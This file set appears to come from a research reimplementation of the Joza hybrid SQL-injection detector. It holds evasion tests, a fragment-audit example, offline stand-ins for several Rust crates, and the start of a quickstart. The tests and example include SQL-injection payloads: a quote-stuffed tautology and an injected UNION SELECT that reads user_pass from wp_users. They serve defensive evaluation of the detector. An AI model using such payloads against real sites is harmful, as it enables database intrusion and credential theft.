use joza::core::{Joza, JozaConfig};
use joza::lab::nti_evasion::{mutate_for_nti, quotes_needed};
use joza::lab::taintless::evade_pti;
use joza::lab::verify::{exploit_effect_observed, request_for};
use joza::lab::{build_lab, Lab, VulnPlugin};
use joza::phpsim::fragments::FragmentSet;
use joza::pti::analyzer::{PtiAnalyzer, PtiConfig};

fn detected(lab: &mut Lab, joza: &Joza, plugin: &VulnPlugin, payload: &str) -> bool {
    let resp = lab.server.handle_with(&request_for(plugin, payload), joza);
    resp.blocked || resp.executed < resp.queries.len()
}

#[test]
fn quote_stuffing_defeats_nti_at_any_threshold() {
    // §V-A: "Regardless of the threshold used by NTI for determining a
    // match, an attacker can evade NTI by simply adding enough quotes."
    let mut lab = build_lab();
    let plugin = lab.plugins.iter().find(|p| p.name == "A to Z Category Listing").unwrap().clone();
    for threshold in [0.10, 0.20, 0.30, 0.40] {
        let mut cfg = JozaConfig::nti_only();
        cfg.nti.threshold = threshold;
        let nti = Joza::install(&lab.server.app, cfg);
        let mutated = mutate_for_nti(&plugin, threshold);
        assert!(
            exploit_effect_observed(&mut lab.server, &plugin, &mutated, None),
            "threshold {threshold}: mutation no longer a working exploit"
        );
        assert!(
            !detected(&mut lab, &nti, &plugin, mutated.primary_payload()),
            "threshold {threshold}: quote-stuffed payload should evade NTI"
        );
    }
}

#[test]
fn quotes_needed_grows_with_threshold() {
    // The number of stuffed quotes needed is monotone in the threshold —
    // raising the threshold is not a remedy.
    let n10 = quotes_needed(20, 0.10);
    let n20 = quotes_needed(20, 0.20);
    let n40 = quotes_needed(20, 0.40);
    assert!(n10 <= n20 && n20 <= n40);
    assert!(n40 > 0);
}

#[test]
fn taintless_mutants_use_only_program_vocabulary() {
    let mut lab = build_lab();
    let mut set = FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    let analyzer = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());
    let plugins = lab.plugins.clone();
    let mut adapted = 0;
    for plugin in &plugins {
        if let Some(evasion) = evade_pti(&mut lab.server, plugin, &analyzer) {
            adapted += 1;
            // The mutant still works as an exploit…
            assert!(
                exploit_effect_observed(&mut lab.server, plugin, &evasion.mutated, None),
                "{}: Taintless mutant is not a working exploit",
                plugin.name
            );
            // …and by construction its critical tokens are fragment-covered.
            let pti_only = Joza::install(&lab.server.app, JozaConfig::pti_only());
            assert!(
                !detected(&mut lab, &pti_only, plugin, evasion.mutated.primary_payload()),
                "{}: Taintless mutant should evade PTI",
                plugin.name
            );
        }
    }
    // The paper adapts 13/50 testbed exploits (14/53 with CMS cases);
    // reproduce the same order of magnitude.
    assert!((8..=25).contains(&adapted), "Taintless adapted {adapted}/50");
}

#[test]
fn hybrid_stops_every_mutant() {
    let mut lab = build_lab();
    let hybrid = Joza::install(&lab.server.app, JozaConfig::optimized());
    let threshold = hybrid.config().nti.threshold;
    let mut set = FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    let analyzer = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());

    let plugins = lab.plugins.clone();
    for plugin in &plugins {
        let nti_mut = mutate_for_nti(plugin, threshold);
        assert!(
            detected(&mut lab, &hybrid, plugin, nti_mut.primary_payload()),
            "{}: hybrid missed the NTI-evasion mutant",
            plugin.name
        );
        if let Some(evasion) = evade_pti(&mut lab.server, plugin, &analyzer) {
            assert!(
                detected(&mut lab, &hybrid, plugin, evasion.mutated.primary_payload()),
                "{}: hybrid missed the Taintless mutant",
                plugin.name
            );
        }
    }
}

#[test]
fn combined_evasion_attempt_fails() {
    // Figure 6D: stacking the NTI evasion (quote-stuffed comment) on top
    // of a Taintless-adapted payload is self-defeating — the comment block
    // is not a program fragment, so PTI flags it.
    let mut lab = build_lab();
    let hybrid = Joza::install(&lab.server.app, JozaConfig::optimized());
    let plugin = lab.plugins.iter().find(|p| p.name == "A to Z Category Listing").unwrap().clone();
    // Taintless form of the tautology (spaced equals) + stuffed comment.
    let combined = "1/*'''''''''*/OR 1 = 1";
    assert!(
        detected(&mut lab, &hybrid, &plugin, combined),
        "hybrid must stop the combined evasion"
    );
}
