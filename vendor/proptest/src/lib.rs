//! Offline stand-in for `proptest`. The `proptest!` macro expands each
//! property into a plain `#[test]` that runs a fixed number of
//! deterministically-seeded cases (seeded from the test name, so runs
//! are reproducible). Strategies cover the subset the workspace uses:
//! regex-like string patterns (single atom `.`/`[class]` with `{m,n}`
//! quantifiers), integer ranges, `collection::vec`/`btree_set`, and
//! `prop_filter`. There is no shrinking: the first failing case fails
//! the test with its inputs visible in the assertion message.

pub mod test_runner {
    /// Cases run per property.
    pub const CASES: u64 = 64;

    /// Deterministic splitmix64 stream seeded from the test name.
    #[derive(Debug, Clone)]
    pub struct TestRng {
        state: u64,
    }

    impl TestRng {
        pub fn from_name(name: &str) -> Self {
            // FNV-1a over the name keeps sibling tests on distinct streams.
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in name.bytes() {
                h ^= u64::from(b);
                h = h.wrapping_mul(0x0000_0100_0000_01B3);
            }
            TestRng { state: h }
        }

        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }

        /// Uniform value in `[0, n)`; `n` must be non-zero.
        pub fn below(&mut self, n: u64) -> u64 {
            self.next_u64() % n
        }
    }
}

mod pattern {
    //! A tiny generator for the regex subset the test-suite's string
    //! strategies use: atoms are `.`, `[class]` (ranges + literals +
    //! backslash escapes), or literal characters, each with an optional
    //! `{m}` / `{m,n}` / `*` / `+` / `?` quantifier.

    use crate::test_runner::TestRng;

    struct Atom {
        /// Inclusive char ranges the atom can produce.
        ranges: Vec<(u32, u32)>,
        min: u32,
        max: u32,
    }

    fn parse(pat: &str) -> Vec<Atom> {
        let chars: Vec<char> = pat.chars().collect();
        let mut atoms = Vec::new();
        let mut i = 0;
        while i < chars.len() {
            let ranges = match chars[i] {
                '.' => {
                    i += 1;
                    vec![(0x20, 0x7E)]
                }
                '[' => {
                    i += 1;
                    let mut rs = Vec::new();
                    while i < chars.len() && chars[i] != ']' {
                        let lo = if chars[i] == '\\' {
                            i += 1;
                            chars[i]
                        } else {
                            chars[i]
                        };
                        i += 1;
                        if i + 1 < chars.len() && chars[i] == '-' && chars[i + 1] != ']' {
                            let hi = chars[i + 1];
                            i += 2;
                            rs.push((lo as u32, hi as u32));
                        } else {
                            rs.push((lo as u32, lo as u32));
                        }
                    }
                    i += 1; // closing ']'
                    rs
                }
                '\\' => {
                    i += 1;
                    let c = chars[i] as u32;
                    i += 1;
                    vec![(c, c)]
                }
                c => {
                    i += 1;
                    vec![(c as u32, c as u32)]
                }
            };
            let (min, max) = if i < chars.len() {
                match chars[i] {
                    '{' => {
                        i += 1;
                        let mut m = 0u32;
                        while chars[i].is_ascii_digit() {
                            m = m * 10 + chars[i].to_digit(10).unwrap();
                            i += 1;
                        }
                        let n = if chars[i] == ',' {
                            i += 1;
                            let mut n = 0u32;
                            while chars[i].is_ascii_digit() {
                                n = n * 10 + chars[i].to_digit(10).unwrap();
                                i += 1;
                            }
                            n
                        } else {
                            m
                        };
                        i += 1; // closing '}'
                        (m, n)
                    }
                    '*' => {
                        i += 1;
                        (0, 8)
                    }
                    '+' => {
                        i += 1;
                        (1, 8)
                    }
                    '?' => {
                        i += 1;
                        (0, 1)
                    }
                    _ => (1, 1),
                }
            } else {
                (1, 1)
            };
            atoms.push(Atom { ranges, min, max });
        }
        atoms
    }

    pub fn sample(pat: &str, rng: &mut TestRng) -> String {
        let mut out = String::new();
        for atom in parse(pat) {
            let n = atom.min + rng.below(u64::from(atom.max - atom.min + 1)) as u32;
            let total: u64 = atom.ranges.iter().map(|(lo, hi)| u64::from(hi - lo + 1)).sum();
            for _ in 0..n {
                let mut idx = rng.below(total.max(1));
                for (lo, hi) in &atom.ranges {
                    let span = u64::from(hi - lo + 1);
                    if idx < span {
                        out.push(char::from_u32(lo + idx as u32).unwrap_or('?'));
                        break;
                    }
                    idx -= span;
                }
            }
        }
        out
    }
}

pub mod strategy {
    use crate::test_runner::TestRng;
    use std::ops::Range;

    /// A recipe producing values of `Self::Value`.
    pub trait Strategy {
        type Value;

        fn sample(&self, rng: &mut TestRng) -> Self::Value;

        /// Retry sampling until `fun` accepts the value.
        fn prop_filter<F>(self, whence: &'static str, fun: F) -> Filter<Self, F>
        where
            Self: Sized,
            F: Fn(&Self::Value) -> bool,
        {
            Filter { inner: self, whence, fun }
        }

        /// Transform each sampled value with `fun`.
        fn prop_map<O, F>(self, fun: F) -> Map<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> O,
        {
            Map { inner: self, fun }
        }
    }

    /// String patterns (regex subset) generate `String`s.
    impl Strategy for &str {
        type Value = String;
        fn sample(&self, rng: &mut TestRng) -> String {
            crate::pattern::sample(self, rng)
        }
    }

    macro_rules! impl_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for Range<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut TestRng) -> $t {
                    assert!(self.start < self.end, "empty range strategy");
                    let span = (self.end as i128 - self.start as i128) as u64;
                    (self.start as i128 + i128::from(rng.below(span))) as $t
                }
            }
        )*};
    }

    impl_range_strategy!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

    pub struct Filter<S, F> {
        pub(crate) inner: S,
        pub(crate) whence: &'static str,
        pub(crate) fun: F,
    }

    impl<S: Strategy, F: Fn(&S::Value) -> bool> Strategy for Filter<S, F> {
        type Value = S::Value;
        fn sample(&self, rng: &mut TestRng) -> S::Value {
            for _ in 0..1000 {
                let v = self.inner.sample(rng);
                if (self.fun)(&v) {
                    return v;
                }
            }
            panic!("prop_filter exhausted 1000 rejections: {}", self.whence);
        }
    }

    pub struct Map<S, F> {
        pub(crate) inner: S,
        pub(crate) fun: F,
    }

    impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
        type Value = O;
        fn sample(&self, rng: &mut TestRng) -> O {
            (self.fun)(self.inner.sample(rng))
        }
    }

    /// A constant strategy: every sample is a clone of the value.
    #[derive(Clone, Debug)]
    pub struct Just<V: Clone>(pub V);

    impl<V: Clone> Strategy for Just<V> {
        type Value = V;
        fn sample(&self, _rng: &mut TestRng) -> V {
            self.0.clone()
        }
    }

    /// Uniform choice among same-valued strategies — the expansion of
    /// [`prop_oneof!`](crate::prop_oneof).
    pub struct Union<V> {
        pub options: Vec<Box<dyn Fn(&mut TestRng) -> V>>,
    }

    impl<V> Strategy for Union<V> {
        type Value = V;
        fn sample(&self, rng: &mut TestRng) -> V {
            assert!(!self.options.is_empty(), "empty prop_oneof");
            let i = rng.below(self.options.len() as u64) as usize;
            (self.options[i])(rng)
        }
    }
}

pub mod arbitrary {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use std::marker::PhantomData;

    /// Types with a canonical whole-domain strategy (`any::<T>()`).
    pub trait Arbitrary: Sized {
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! impl_arbitrary_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }

    impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    /// The `any::<T>()` strategy object.
    pub struct Any<T>(PhantomData<T>);

    /// Uniform samples over `T`'s whole domain.
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn sample(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }
}

pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use std::collections::BTreeSet;
    use std::ops::Range;

    pub struct VecStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    /// `Vec` of `element` samples with a length drawn from `size`.
    pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn sample(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let n = self.size.sample_len(rng);
            (0..n).map(|_| self.element.sample(rng)).collect()
        }
    }

    pub struct BTreeSetStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    /// `BTreeSet` of `element` samples; insertion retries until the
    /// drawn size is reached (bounded, in case the element domain is
    /// smaller than the requested size).
    pub fn btree_set<S>(element: S, size: Range<usize>) -> BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        BTreeSetStrategy { element, size }
    }

    impl<S> Strategy for BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        type Value = BTreeSet<S::Value>;
        fn sample(&self, rng: &mut TestRng) -> BTreeSet<S::Value> {
            let n = self.size.sample_len(rng);
            let mut out = BTreeSet::new();
            let mut tries = 0;
            while out.len() < n && tries < 10_000 {
                out.insert(self.element.sample(rng));
                tries += 1;
            }
            out
        }
    }

    trait SampleLen {
        fn sample_len(&self, rng: &mut TestRng) -> usize;
    }

    impl SampleLen for Range<usize> {
        fn sample_len(&self, rng: &mut TestRng) -> usize {
            assert!(self.start < self.end, "empty size range");
            self.start + rng.below((self.end - self.start) as u64) as usize
        }
    }
}

pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// Uniform choice among the listed strategies (all must produce the same
/// value type).
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {{
        $crate::strategy::Union {
            options: vec![$({
                let s = $strat;
                Box::new(move |rng: &mut $crate::test_runner::TestRng| {
                    $crate::strategy::Strategy::sample(&s, rng)
                }) as Box<dyn Fn(&mut $crate::test_runner::TestRng) -> _>
            }),+],
        }
    }};
}

/// Expand property functions into fixed-case deterministic tests.
#[macro_export]
macro_rules! proptest {
    ($($(#[$meta:meta])* fn $name:ident($($arg:pat in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let mut __proptest_rng =
                    $crate::test_runner::TestRng::from_name(stringify!($name));
                for __proptest_case in 0..$crate::test_runner::CASES {
                    let _ = __proptest_case;
                    $(
                        let $arg = $crate::strategy::Strategy::sample(
                            &($strat),
                            &mut __proptest_rng,
                        );
                    )+
                    $body
                }
            }
        )*
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($($tokens:tt)*) => { assert!($($tokens)*) };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($($tokens:tt)*) => { assert_eq!($($tokens)*) };
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($($tokens:tt)*) => { assert_ne!($($tokens)*) };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;
    use crate::test_runner::TestRng;

    #[test]
    fn pattern_subset_generates_in_class() {
        let mut rng = TestRng::from_name("pattern_subset");
        for _ in 0..200 {
            let s = Strategy::sample(&"[a-c]{1,4}", &mut rng);
            assert!((1..=4).contains(&s.len()));
            assert!(s.chars().all(|c| ('a'..='c').contains(&c)));
            let t = Strategy::sample(&"[ -~]{0,10}", &mut rng);
            assert!(t.chars().all(|c| (' '..='~').contains(&c)));
            let one = Strategy::sample(&"[a-zA-Z]", &mut rng);
            assert_eq!(one.chars().count(), 1);
            let esc = Strategy::sample(&"[a-z'\"\\\\]{0,20}", &mut rng);
            assert!(esc.chars().all(|c| c.is_ascii_lowercase() || "'\"\\".contains(c)));
        }
    }

    proptest! {
        /// The macro itself: patterns bind, ranges sample in-bounds.
        #[test]
        fn macro_roundtrip(n in 3usize..9, mut s in ".{0,12}", v in crate::collection::vec(0i64..5, 1..4)) {
            prop_assert!((3..9).contains(&n));
            s.push('x');
            prop_assert!(s.len() <= 13);
            prop_assert!(!v.is_empty() && v.len() < 4);
            prop_assert_ne!(s.len(), 0);
        }
    }
}
