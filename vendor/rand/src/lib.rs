//! Offline stand-in for the `rand` crate (0.9 API names). Provides a
//! deterministic `StdRng` (splitmix64) with `seed_from_u64` and the
//! `random_range` sampling method over integer `Range`s — the full
//! surface the benchmark workload generators use. Not cryptographic.

use std::ops::Range;

/// Seedable generators.
pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

/// Sampling interface.
pub trait Rng {
    fn next_u64(&mut self) -> u64;

    /// Sample uniformly from an integer range (half-open).
    fn random_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
        Self: Sized,
    {
        range.sample_from(self)
    }
}

/// Ranges that can be sampled to produce a `T`.
pub trait SampleRange<T> {
    fn sample_from<G: Rng>(self, rng: &mut G) -> T;
}

macro_rules! impl_sample_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<G: Rng>(self, rng: &mut G) -> $t {
                assert!(self.start < self.end, "cannot sample empty range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = (rng.next_u64() as u128) % span;
                (self.start as i128 + v as i128) as $t
            }
        }
    )*};
}

impl_sample_range!(i32, i64, u32, u64, usize, isize, u16, i16, u8, i8);

pub mod rngs {
    use super::{Rng, SeedableRng};

    /// Deterministic splitmix64 generator: cheap, seedable, and stable
    /// across runs — everything the reproducible workloads need.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        state: u64,
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            StdRng { state: seed.wrapping_add(0x9E37_79B9_7F4A_7C15) }
        }
    }

    impl Rng for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_and_in_range() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            let x: usize = a.random_range(4..12);
            let y: usize = b.random_range(4..12);
            assert_eq!(x, y);
            assert!((4..12).contains(&x));
        }
        let z: i64 = a.random_range(-5i64..5);
        assert!((-5..5).contains(&z));
    }
}
