//! Offline stand-in for `parking_lot`: a `Mutex` whose `lock()` returns
//! the guard directly (no poisoning in the API), backed by
//! `std::sync::Mutex`. A poisoned inner lock is recovered rather than
//! propagated, matching parking_lot's poison-free contract.

use std::fmt;
use std::sync::PoisonError;

pub type MutexGuard<'a, T> = std::sync::MutexGuard<'a, T>;
pub type RwLockReadGuard<'a, T> = std::sync::RwLockReadGuard<'a, T>;
pub type RwLockWriteGuard<'a, T> = std::sync::RwLockWriteGuard<'a, T>;

#[derive(Default)]
pub struct Mutex<T: ?Sized> {
    inner: std::sync::Mutex<T>,
}

impl<T> Mutex<T> {
    pub fn new(value: T) -> Self {
        Mutex { inner: std::sync::Mutex::new(value) }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

#[derive(Default)]
pub struct RwLock<T: ?Sized> {
    inner: std::sync::RwLock<T>,
}

impl<T> RwLock<T> {
    pub fn new(value: T) -> Self {
        RwLock { inner: std::sync::RwLock::new(value) }
    }
}

impl<T: ?Sized> RwLock<T> {
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        self.inner.read().unwrap_or_else(PoisonError::into_inner)
    }

    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        self.inner.write().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lock_returns_guard_directly() {
        let m = Mutex::new(1u32);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        let rw = RwLock::new(5u32);
        assert_eq!(*rw.read(), 5);
        *rw.write() = 6;
        assert_eq!(*rw.read(), 6);
    }
}
