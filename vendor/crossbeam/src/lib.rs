//! Offline stand-in for the `crossbeam` crate. Only the bounded-channel
//! surface is provided, backed by `std::sync::mpsc::sync_channel` —
//! the same blocking send/recv semantics at the call sites the
//! workspace uses (single-producer request/response daemon plumbing).

pub mod channel {
    pub use std::sync::mpsc::{Receiver, SyncSender as Sender};

    /// A bounded blocking channel.
    pub fn bounded<T>(cap: usize) -> (Sender<T>, Receiver<T>) {
        std::sync::mpsc::sync_channel(cap)
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn bounded_roundtrip() {
        let (tx, rx) = super::channel::bounded::<u32>(4);
        tx.send(42).unwrap();
        assert_eq!(rx.recv().unwrap(), 42);
        drop(tx);
        assert!(rx.recv().is_err());
    }
}
