//! Offline stand-in for the `bytes` crate, providing exactly the subset
//! of the API the workspace uses (frame building and advancing reads in
//! the PTI daemon wire protocol). Network byte order matches upstream
//! (big-endian `put_u32`/`get_u32`).

use std::ops::Deref;

/// Read-side of a frame: an owned buffer plus a cursor that advances as
/// `get_*` calls consume bytes. `Deref<Target = [u8]>` exposes the
/// remaining (unread) bytes, matching upstream semantics.
#[derive(Debug, Clone, Default)]
pub struct Bytes {
    data: Vec<u8>,
    pos: usize,
}

impl Bytes {
    /// Remaining (unread) length.
    pub fn len(&self) -> usize {
        self.data.len() - self.pos
    }

    /// True when every byte has been consumed.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data[self.pos..]
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(data: Vec<u8>) -> Self {
        Bytes { data, pos: 0 }
    }
}

/// Advancing reads over a byte cursor.
pub trait Buf {
    fn remaining(&self) -> usize;
    fn get_u8(&mut self) -> u8;
    fn get_u32(&mut self) -> u32;
}

impl Buf for Bytes {
    fn remaining(&self) -> usize {
        self.len()
    }

    fn get_u8(&mut self) -> u8 {
        let b = self.data[self.pos];
        self.pos += 1;
        b
    }

    fn get_u32(&mut self) -> u32 {
        let mut raw = [0u8; 4];
        raw.copy_from_slice(&self.data[self.pos..self.pos + 4]);
        self.pos += 4;
        u32::from_be_bytes(raw)
    }
}

/// Write-side of a frame.
#[derive(Debug, Clone, Default)]
pub struct BytesMut {
    data: Vec<u8>,
}

impl BytesMut {
    pub fn new() -> Self {
        BytesMut::default()
    }

    pub fn with_capacity(cap: usize) -> Self {
        BytesMut { data: Vec::with_capacity(cap) }
    }

    /// Convert into an immutable, readable frame.
    pub fn freeze(self) -> Bytes {
        Bytes { data: self.data, pos: 0 }
    }
}

/// Appending writes onto a growable buffer.
pub trait BufMut {
    fn put_u8(&mut self, v: u8);
    fn put_u32(&mut self, v: u32);
    fn put_slice(&mut self, src: &[u8]);
}

impl BufMut for BytesMut {
    fn put_u8(&mut self, v: u8) {
        self.data.push(v);
    }

    fn put_u32(&mut self, v: u32) {
        self.data.extend_from_slice(&v.to_be_bytes());
    }

    fn put_slice(&mut self, src: &[u8]) {
        self.data.extend_from_slice(src);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let mut w = BytesMut::with_capacity(16);
        w.put_u8(7);
        w.put_u32(0xDEAD_BEEF);
        w.put_slice(b"abc");
        let mut r = w.freeze();
        assert_eq!(r.len(), 8);
        assert_eq!(r.get_u8(), 7);
        assert_eq!(r.get_u32(), 0xDEAD_BEEF);
        assert_eq!(&r[..], b"abc");
        assert_eq!(r.remaining(), 3);
    }
}
