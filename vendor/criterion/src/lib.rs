//! Offline stand-in for `criterion`. The benches compile and run as
//! smoke tests: each `Bencher::iter` body executes a handful of times
//! and reports a rough per-iteration time, with no statistics engine.
//! The API mirrors the subset the workspace benches use.

use std::fmt::Display;
use std::time::Instant;

pub use std::hint::black_box;

const SMOKE_ITERS: u32 = 3;

#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    pub fn benchmark_group(&mut self, name: impl Display) -> BenchmarkGroup<'_> {
        BenchmarkGroup { _parent: self, name: name.to_string() }
    }
}

pub struct BenchmarkGroup<'a> {
    _parent: &'a mut Criterion,
    name: String,
}

impl BenchmarkGroup<'_> {
    pub fn bench_function<F>(&mut self, id: impl Display, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut b = Bencher { elapsed_ns: 0, iters: 0 };
        f(&mut b);
        b.report(&self.name, &id.to_string());
        self
    }

    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut b = Bencher { elapsed_ns: 0, iters: 0 };
        f(&mut b, input);
        b.report(&self.name, &id.label);
        self
    }

    pub fn finish(self) {}
}

/// A `function/parameter` benchmark label.
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    pub fn new(function_name: impl Display, parameter: impl Display) -> Self {
        BenchmarkId { label: format!("{function_name}/{parameter}") }
    }
}

pub struct Bencher {
    elapsed_ns: u128,
    iters: u32,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        let start = Instant::now();
        for _ in 0..SMOKE_ITERS {
            black_box(f());
        }
        self.elapsed_ns += start.elapsed().as_nanos();
        self.iters += SMOKE_ITERS;
    }

    fn report(&self, group: &str, id: &str) {
        if self.iters > 0 {
            let per = self.elapsed_ns / u128::from(self.iters);
            println!("bench {group}/{id}: ~{per} ns/iter (smoke run, {} iters)", self.iters);
        }
    }
}

/// Collect benchmark functions into a runnable group.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Entry point running every group.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}
