//! Audit an application's PTI attack surface (the paper's Table III).
//!
//! PTI's security is application-dependent: the extracted fragment
//! vocabulary is exactly the set of building blocks an attacker may reuse.
//! This example extracts the vocabulary from the simulated WordPress
//! testbed, reports which dangerous tokens it exposes, and then renders
//! per-token coverage for a benign query and an injected one — the +/-
//! markings of the paper's Figures 2 and 3.
//!
//! ```text
//! cargo run --example fragment_audit
//! ```

use joza::lab::build_lab;
use joza::phpsim::fragments::FragmentSet;
use joza::pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza::sqlparse::critical::{critical_tokens, CriticalPolicy};
use joza::sqlparse::lexer::lex;

fn coverage_line(analyzer: &PtiAnalyzer, query: &str) {
    let report = analyzer.analyze(query);
    let tokens = lex(query);
    let criticals = critical_tokens(query, &tokens, &CriticalPolicy::default());
    println!("  {query}");
    // Render a marker row: '+' under covered critical tokens, '^' under
    // uncovered ones (attack evidence).
    let mut row = vec![b' '; query.len()];
    for c in &criticals {
        let covered = !report.uncovered_critical.iter().any(|u| u.start == c.start);
        let mark = if covered { b'+' } else { b'^' };
        row[c.start..c.end].fill(mark);
    }
    println!("  {}", String::from_utf8(row).expect("ascii markers"));
    println!(
        "  -> {} critical tokens, {} uncovered, verdict: {}\n",
        report.critical_count,
        report.uncovered_critical.len(),
        if report.is_attack() { "ATTACK" } else { "safe" }
    );
}

fn main() {
    let lab = build_lab();
    let mut set = FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    println!("fragment vocabulary: {} fragments\n", set.len());

    // Table III: dangerous tokens available to an attacker as fragments.
    println!("== dangerous vocabulary (the PTI attack surface) ==");
    for needle in [
        "UNION", "AND", "OR", "SELECT", "CHAR", "#", "\"", "'", "`", "GROUP BY", "ORDER BY",
        "CAST", "WHERE 1",
    ] {
        let available = set.iter().any(|f| f.contains(needle));
        println!("  {:10} {}", needle, if available { "available" } else { "absent" });
    }

    // Shortest fragments are the most combinable — audit them.
    let mut shortest: Vec<&str> = set.iter().collect();
    shortest.sort_by_key(|f| (f.len(), f.to_string()));
    println!("\n== 15 shortest fragments ==");
    for f in shortest.iter().take(15) {
        println!("  {f:?}");
    }

    // Per-query coverage, Figure 2/3 style.
    let analyzer = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());
    println!("\n== coverage: benign query ==");
    coverage_line(
        &analyzer,
        "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1",
    );
    println!("== coverage: injected query ==");
    coverage_line(
        &analyzer,
        "SELECT * FROM wp_posts WHERE ID = -1 UNION SELECT user_pass FROM wp_users",
    );
}
