//! Quickstart: protect queries with the Joza hybrid taint-inference engine.
//!
//! Joza combines two complementary inference techniques:
//!
//! * **NTI** (negative taint inference) matches request inputs against the
